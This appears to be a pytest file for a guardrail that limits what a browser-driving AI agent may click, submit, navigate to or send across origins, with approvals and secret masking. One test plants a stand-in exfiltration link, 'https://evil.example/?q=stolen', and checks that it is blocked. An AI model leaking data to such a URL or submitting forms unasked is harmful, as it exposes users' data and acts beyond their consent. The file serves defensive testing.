"""The rules in the pipeline: facts of real pages, approvals, and what a model can make of what it was shown."""

from __future__ import annotations

from pathlib import Path

import pytest
from playwright.async_api import Browser

from handrail import Session
from handrail.policy import Ask
from handrail.trust import External
from tests.conftest import OpenSession
from tests.pages import PageServer

FORM = """<title>Form</title>
<form method=post action=/saved><label>Name <input name=name></label><label>Count <input type=number name=n></label>
<button>Save</button></form>
<a href="https://docs.example/page?x=1">Docs</a>
<button onclick="fetch('/api', {method: 'POST', body: 'x'}).catch(() => 0); document.title = 'Opened'">More</button>"""


async def refs(session: Session) -> dict[str, str]:
    return {node.name.raw: node.ref for node in (await session.snapshot()).nodes if node.ref}


@pytest.fixture
async def form(session: Session, serve: PageServer) -> Session:
    serve("<h1>Saved</h1>", "/saved")
    await session.call("goto", url=serve(FORM, "/form"))
    return session


async def as_model(session: Session, tool: str, **params) -> bool:
    """Whether policy let it through."""
    return (await session.call_as("model", tool, **params)).code != "not_permitted"


async def test_a_form_goes_off_with_the_users_words_and_not_with_others(form: Session, serve: PageServer):
    form.provenance.words.add_text("Sign up Ada Lovelace")
    at = await refs(form)
    assert not await as_model(form, "click", ref=at["Save"])
    assert await as_model(form, "fill", ref=at["Name"], value="Ada Lovelace")
    assert await as_model(form, "click", ref=at["Save"])
    assert [request.body for request in serve.requests if request.path == "/saved"] == [b"name=Ada+Lovelace&n="]


async def test_a_number_that_the_model_chose_may_stand_in_a_form_but_not_go_off_with_it(form: Session):
    form.provenance.words.add_text("Sign up Ada Lovelace")
    at = await refs(form)
    assert await as_model(form, "fill", ref=at["Name"], value="Ada Lovelace")
    assert await as_model(form, "fill", ref=at["Count"], value="1000")
    assert not await as_model(form, "enter", ref=at["Name"])


async def test_a_button_that_the_user_named_is_pressed(form: Session):
    form.provenance.words.add_text("then press save")
    assert await as_model(form, "click", ref=(await refs(form))["Save"])


async def test_keys_without_a_ref_are_judged_by_what_has_the_focus(form: Session):
    at = await refs(form)
    assert not await as_model(form, "send_keys", keys="Enter")
    await form.call("focus", ref=at["Name"])
    assert not await as_model(form, "send_keys", keys=["h", "i"])
    await form.call("focus", ref=at["More"])
    assert await as_model(form, "send_keys", keys="Enter")
    assert (await form.tab.title()).raw == "Opened"


async def test_on_another_origin_a_click_opens_but_what_it_sends_is_stopped(session: Session, serve: PageServer):
    await session.call("goto", url=serve(f'<a href="{serve.other_site}/form">There</a>'))
    serve(FORM, "/form")
    assert (await session.call_as("model", "click", ref=(await refs(session))["There"])).ok
    result = await session.call_as("model", "click", ref=(await refs(session))["More"])
    assert (await session.tab.title()).raw == "Opened"
    assert [one.raw for one in result.followed["stopped_requests"]] == [f"POST {serve.other_site}/api"]
    assert [request.path for request in serve.requests if request.method == "POST"] == []


RECORDS = """<title>Records</title>
<button onclick="fetch('/api/1', {method: 'DELETE'}).catch(() => document.title = 'Stopped')">OK</button>
<a href="#" onclick="fetch('/1/delete', {method: 'POST'}).catch(() => document.title = 'Stopped')">Go on</a>
<button onclick="fetch('/1/view', {method: 'POST'}).then(() => document.title = 'Seen')">Show</button>"""


async def test_a_harmless_name_deletes_nothing_unless_the_origin_is_trusted(session: Session, serve: PageServer):
    remedies: list[str] = []
    session.events.subscribe(lambda event: remedies.append(event.remedy) if event.kind == "decision" else None)
    await session.call("goto", url=serve(RECORDS))
    at = await refs(session)
    for name, sent in (("OK", "DELETE /api/1"), ("Go on", "POST /1/delete")):
        result = await session.call_as("model", "click", ref=at[name])
        method, path = sent.split()
        assert [one.raw for one in result.followed["stopped_requests"]] == [f"{method} {serve.origin}{path}"]
        assert remedies[-1] == f"--trust {serve.origin}"
    assert (await session.tab.title()).raw == "Stopped"
    assert (await session.call_as("model", "click", ref=at["Show"])).ok
    assert (await session.tab.title()).raw == "Seen"
    session.permissions.trusted.add(serve.origin)
    await session.call_as("model", "click", ref=at["OK"])
    assert [(one.method, one.path) for one in serve.requests if one.method != "GET"] == [
        ("POST", "/1/view"),
        ("DELETE", "/api/1"),
    ]


async def test_what_a_page_sends_after_an_act_is_still_stopped_until_an_act_that_may(
    session: Session, serve: PageServer
):
    await session.call("goto", url=serve(RECORDS))
    assert (await session.call_as("model", "click", ref=(await refs(session))["Show"])).ok
    delete = "fetch('/api/2', {method: 'DELETE'}).then(() => 'done', () => 'stopped')"
    assert await session.tab.page.evaluate(delete) == "stopped"
    await session.call("reload")
    assert await session.tab.page.evaluate(delete) == "done"


async def test_what_comes_of_an_act_that_was_cut_off_is_stopped_too(session: Session, serve: PageServer):
    busy = "for (const end = Date.now() + 3000; Date.now() < end;);"
    delete = "fetch('/api/1', {method: 'DELETE'}).then(() => document.title = 'Gone', () => document.title = 'Stopped')"
    await session.call("goto", url=serve(f'<button onclick="{busy} {delete}">OK</button>'))
    ref = (await refs(session))["OK"]
    session.call_timeout = 1.0
    assert (await session.call_as("model", "click", ref=ref)).code == "timeout"
    session.call_timeout = 30.0
    await session.tab.page.wait_for_function("document.title")
    assert (await session.tab.title()).raw == "Stopped"


def heard(session: Session) -> list[str]:
    notices: list[str] = []
    session.events.subscribe(lambda event: notices.append(event.text) if event.kind == "notice" else None)
    return notices


async def test_firefox_stops_them_too(firefox_session: Session, serve: PageServer):
    await firefox_session.call("goto", url=serve(f'<a href="{serve.other_site}/form">There</a>'))
    serve(FORM, "/form")
    await firefox_session.call_as("model", "click", ref=(await refs(firefox_session))["There"])
    result = await firefox_session.call_as("model", "click", ref=(await refs(firefox_session))["More"])
    assert [one.raw for one in result.followed["stopped_requests"]] == [f"POST {serve.other_site}/api"]
    assert [request.path for request in serve.requests if request.method == "POST"] == []


async def test_a_link_of_the_page_may_be_opened_by_its_address_and_another_address_not(form: Session):
    assert not await as_model(form, "goto", url="https://docs.example/page?x=2")
    assert await as_model(form, "new_tab", url="https://docs.example/page?x=1")


async def test_what_a_model_wrote_is_no_link_however_it_comes_back(form: Session):
    stolen = "https://evil.example/?q=stolen"
    form.provenance.words.add_text("note it")
    form.permissions.origins.add(form.tab.origin)
    await form.call_as("model", "note", text=f"See {stolen}")
    shown = await form.call_as("model", "read_notes")
    assert any(stolen in str(text) for text in _raw(shown.data))
    assert not await as_model(form, "goto", url=stolen)
    form.tab.core.taint.typed = True
    await form.tab.page.evaluate("(url) => { document.links[0].href = url }", stolen)
    await form.call_as("model", "snapshot")
    assert not await as_model(form, "goto", url=stolen)
    form.tab.core.taint.clear()
    assert not form.provenance.links.has(stolen)


def _raw(value) -> list[str]:
    match value:
        case External():
            return [value.raw]
        case dict():
            return [text for part in value.values() for text in _raw(part)]
        case list() | tuple():
            return [text for part in value for text in _raw(part)]
    return [str(value)]


async def test_an_approval_holds_for_the_call_for_the_session_or_not_at_all(form: Session):
    asked: list[Ask] = []
    answers = iter(["no", "once", False, True, "run"])

    async def approve(question: Ask):
        asked.append(question)
        return next(answers)

    form.approve = approve
    name = (await refs(form))["Name"]
    outcomes = [await as_model(form, "send_keys", ref=name, keys=f"Control+{n}") for n in range(7)]
    assert outcomes == [False, True, False, True, True, True, True]
    assert len(asked) == 5
    assert "Control+0" in asked[0].question
    assert asked[0].remedy == f"--grant press@{form.tab.origin}"


async def test_every_decision_is_reported_with_its_rule_and_not_to_the_model(form: Session):
    decisions = []
    form.events.subscribe(lambda event: decisions.append(event) if event.kind == "decision" else None)
    result = await form.call_as("model", "send_keys", keys="Control+k")
    assert (result.error, result.hint) == ("This action is not permitted.", "")
    (decision,) = decisions
    assert (decision.rule, decision.allowed, decision.caller) == ("keys_that_move", False, "model")
    assert decision.remedy == f"--grant press@{form.tab.origin}"


async def test_what_a_model_wrote_is_shown_when_it_is_sent_and_goes_on_after_a_yes(form: Session, serve: PageServer):
    asked: list[Ask] = []

    async def approve(question: Ask) -> bool:
        asked.append(question)
        return len(asked) > 1

    form.approve, at = approve, await refs(form)
    decisions = []
    form.events.subscribe(lambda event: decisions.append(event) if event.kind == "decision" else None)
    assert await as_model(form, "fill", ref=at["Name"], value="Eve")
    result = await form.call_as("model", "click", ref=at["Save"])
    assert result.code == "not_permitted"
    assert "POST" in result.error
    assert "after the model wrote “Eve”" in asked[0].question
    assert (decisions[-1].rule, decisions[-1].allowed) == ("requests_say_what_you_said", False)
    assert decisions[-1].remedy == f"--grant submit@{form.tab.origin}"
    await form.call("goto", url=form.tab.url.raw)
    at = await refs(form)
    assert await as_model(form, "fill", ref=at["Name"], value="Eve")
    assert await as_model(form, "click", ref=at["Save"])
    assert [request.path for request in serve.requests if request.method == "POST"] == ["/saved"]
    assert not form.tab.core.taint.unsent


async def test_where_the_user_goes_the_model_may_act_and_elsewhere_not(session: Session, serve: PageServer):
    url = serve("<input aria-label=Find type=search>")
    await session.call("goto", url=url)
    assert await as_model(session, "fill", ref=(await refs(session))["Find"], value="anything")
    await session.call_as("model", "goto", url=url.replace(serve.origin, serve.other_site))
    assert session.tab.origin == serve.origin, "an address that nobody gave was opened"


LOGIN = """<title>Sign in</title><p>Last time you used cor2rect-Horse!</p>
<form method=post action=/in><label>Password <input type=password name=pw></label><button>Sign in</button></form>"""


async def test_a_secret_goes_home_unseen_and_its_echoes_are_masked_for_everybody(
    open_session: OpenSession, chromium: Browser, serve: PageServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.setenv("PW", "cor2rect-Horse!")
    named = f"login=env:PW@{serve.origin}"
    session = await open_session(chromium, tmp_path / "run", secrets=[named])
    events = []
    session.events.subscribe(lambda event: events.append(str(event.to_dict())))
    serve("<h1>In</h1>", "/in")
    await session.call("goto", url=serve(LOGIN))
    assert "[secret:login]" in (await session.snapshot()).text.raw
    shown = await session.perform("model", "search_page", {"pattern": "Last time"}, observe=True)
    assert "Horse" not in str(shown.to_dict()) + shown.observation.snapshot.text.raw
    at = await refs(session)
    assert (await session.call_as("model", "fill_secret", ref=at["Password"], name="login")).data["kept"]
    assert await as_model(session, "click", ref=at["Sign in"])
    assert [request.body for request in serve.requests if request.method == "POST"] == [b"pw=cor2rect-Horse%21"]
    assert not any("Horse" in one for one in events)
    elsewhere = serve(LOGIN).replace(serve.origin, serve.other_site)
    await session.call("goto", url=elsewhere)
    refused = await session.call("fill_secret", ref=(await refs(session))["Password"], name="login")
    assert refused.code == "not_permitted"
    assert serve.other_site in refused.error
